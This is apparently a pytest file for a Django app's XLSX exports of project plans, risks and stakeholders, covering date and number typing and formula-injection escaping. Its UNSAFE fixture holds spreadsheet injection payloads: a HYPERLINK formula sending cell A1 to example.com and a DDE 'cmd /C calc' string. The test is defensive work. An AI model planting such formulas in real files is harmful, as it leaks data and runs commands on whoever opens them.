"""The analyses as XLSX: dates as Excel dates and scores as numbers, so that a partner can sort and filter."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from radslag.planning import services
from radslag.planning.outputs import spreadsheet_value


def download(client, name, project):
    response = client.get(reverse(f"planning:{name}", kwargs={"project_pk": project.pk}))
    assert response.status_code == 200
    return response, load_workbook(io.BytesIO(response.content)).active


def column(sheet, heading):
    """The cells under `heading`, below the heading row."""
    headings = [cell.value for cell in sheet[1]]
    return [row[headings.index(heading)] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.django_db
def test_the_activity_plan_has_real_dates_and_resources_as_numbers(world, client_for, org):
    for text, starts, ends, resources in (("Workshop i Ghanzi", dt.date(2027, 3, 1), dt.date(2027, 3, 5), "120 000"),
                                          ("Studiebesök i Ale", dt.date(2027, 9, 14), dt.date(2027, 9, 18), "2,5"),
                                          ("Uppföljning", None, None, "Två tjänstepersoner")):
        services.create_item(project=world["project"], actor=world["ale_lead"], organisation=org, kind="logframe",
                             fields={"level": "activity", "text_sv": text, "starts_on": starts, "ends_on": ends,
                                     "resources_sv": resources, "resources_en": "1,500"})
    _response, sheet = download(client_for(org, world["ale_lead"]), "activities_xlsx", world["project"])
    starts = column(sheet, "Börjar")
    assert [cell.value for cell in starts] == [dt.datetime(2027, 3, 1), dt.datetime(2027, 9, 14), None]
    assert starts[0].is_date and starts[0].data_type == "d" and starts[0].number_format == "yyyy-mm-dd"
    ends = column(sheet, "Slutar")
    assert ends[1].value == dt.datetime(2027, 9, 18) and ends[1].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions[starts[0].column_letter].width >= 10, "a date in a narrow column shows ####"
    resources = [cell.value for cell in column(sheet, "Resurser (svenska)")]
    assert resources == [120000, 2.5, "Två tjänstepersoner"] and isinstance(resources[0], int)
    assert [cell.value for cell in column(sheet, "Resurser (English)")] == ["1,500"] * 3, "ambiguous: kept as text"
    assert sheet.auto_filter.ref == sheet.dimensions and sheet.freeze_panes == "A2"


@pytest.mark.django_db
def test_the_risks_sheet_has_likelihood_impact_and_score_as_numbers_to_sort_by(world, client_for, org):
    for text, likelihood, impact in (("Valet byter majoritet", 2, 5), ("Resor ställs in", 4, 4), ("Sjukdom", 1, 3)):
        services.create_item(project=world["project"], actor=world["ale_lead"], organisation=org, kind="risk",
                             fields={"text_sv": text, "owner": "Projektledaren", "likelihood": likelihood,
                                     "impact": impact})
    response, sheet = download(client_for(org, world["reader"]), "risks_xlsx", world["project"])
    assert response["Content-Disposition"].endswith('risker.xlsx"')
    assert sheet.title == "Riskanalys"
    scores = column(sheet, "Sannolikhet × konsekvens")
    assert [cell.value for cell in scores] == [10, 16, 3]
    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in scores)
    assert [cell.value for cell in column(sheet, "Sannolikhet")] == [2, 4, 1]
    assert [cell.value for cell in column(sheet, "Konsekvens")] == [5, 4, 3]
    by_score = sorted(sheet.iter_rows(min_row=2, values_only=True), key=lambda row: row[4], reverse=True)
    assert [row[0] for row in by_score] == ["Resor ställs in", "Valet byter majoritet", "Sjukdom"]
    assert sheet.auto_filter.ref == sheet.dimensions


@pytest.mark.django_db
def test_the_stakeholders_sheet_has_interest_and_influence_as_numbers(world, client_for, org):
    services.create_item(project=world["project"], actor=world["ale_lead"], organisation=org, kind="stakeholder",
                         fields={"name_sv": "Byhövdingar", "name_en": "Chiefs", "interest": 5, "influence": 4})
    response, sheet = download(client_for(org, world["ale_lead"]), "stakeholders_xlsx", world["project"])
    assert response["Content-Disposition"].endswith('intressenter.xlsx"')
    assert [cell.value for cell in sheet[2]][:4] == ["Byhövdingar", "Chiefs", 5, 4]
    assert sheet["C2"].data_type == "n" and sheet["D2"].data_type == "n"


@pytest.mark.parametrize(("text", "value"), [
    ("120 000", 120000), ("120\u00a0000", 120000), ("45000", 45000), ("-3", -3), ("2,5", 2.5), ("0.75", 0.75),
    ("1,500", "1,500"), ("1.500", "1.500"), ("50 000 kr", "50 000 kr"), ("12 34", "12 34"), ("", ""),
    ("Två tjänstepersoner", "Två tjänstepersoner"), ("0012", "0012"), ("007", "007"),
])
def test_only_a_cell_that_is_plainly_a_number_becomes_one(text, value):
    assert spreadsheet_value(text) == value and type(spreadsheet_value(text)) is type(value)


UNSAFE = {  # what a partner, or a workshop's participant, might write: each a formula to a spreadsheet
    "stakeholder": '=HYPERLINK("http://example.com/?"&A1,"Klicka här")',
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "risk": "+46 ringer mitt i natten",
    "activity": "-2+3",
    "pasted": "Byhövdingar\x0bfrån Word",  # a vertical tab from pasted Word text: XML 1.0 cannot carry it
}


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["stakeholders_xlsx", "logframe_xlsx", "activities_xlsx", "risks_xlsx"])
def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_plain_text(world, client_for, org, name):
    """A stakeholder, risk or activity written as =, +, - or @ opens as text, not as a formula to run."""
    project, lead = world["project"], world["ale_lead"]
    services.create_item(project=project, actor=lead, organisation=org, kind="stakeholder",
                         fields={"name_sv": UNSAFE["stakeholder"], "name_en": UNSAFE["pasted"],
                                 "interest": 5, "influence": 4})
    services.create_item(project=project, actor=lead, organisation=org, kind="risk",
                         fields={"text_sv": UNSAFE["risk"], "owner": UNSAFE["owner"], "likelihood": 2, "impact": 3})
    for level in ("result", "activity"):
        services.create_item(project=project, actor=lead, organisation=org, kind="logframe",
                             fields={"level": level, "text_sv": UNSAFE["activity"], "indicators_sv": UNSAFE["owner"],
                                     "resources_sv": UNSAFE["stakeholder"], "starts_on": dt.date(2027, 3, 1),
                                     "ends_on": dt.date(2027, 3, 5)})
    _response, sheet = download(client_for(org, lead), name, project)
    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert texts, "the sheet holds the texts written"
    for cell in texts:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert not cell.value.startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
        assert "\x0b" not in cell.value
    written = {cell.value for cell in texts}
    assert written & {"'" + text for text in (UNSAFE["stakeholder"], UNSAFE["owner"], UNSAFE["risk"],
                                               UNSAFE["activity"])}, "the text itself stays readable"


@pytest.mark.django_db
def test_digits_outside_the_amount_columns_keep_every_digit(world, client_for, org):
    """A risk owner's phone number or a stakeholder called "007" is text, not a number that loses its zero."""
    project, lead = world["project"], world["ale_lead"]
    services.create_item(project=project, actor=lead, organisation=org, kind="stakeholder",
                         fields={"name_sv": "007", "name_en": "3.10", "interest": 5, "influence": 4})
    services.create_item(project=project, actor=lead, organisation=org, kind="risk",
                         fields={"text_sv": "Torka", "owner": "0701234567", "likelihood": 2, "impact": 3})
    client = client_for(org, lead)
    _response, stakeholders = download(client, "stakeholders_xlsx", project)
    names = {cell.value for row in stakeholders.iter_rows(min_row=2) for cell in row}
    assert {"007", "3.10"} <= names
    _response, risks = download(client, "risks_xlsx", project)
    assert "0701234567" in {cell.value for row in risks.iter_rows(min_row=2) for cell in row}
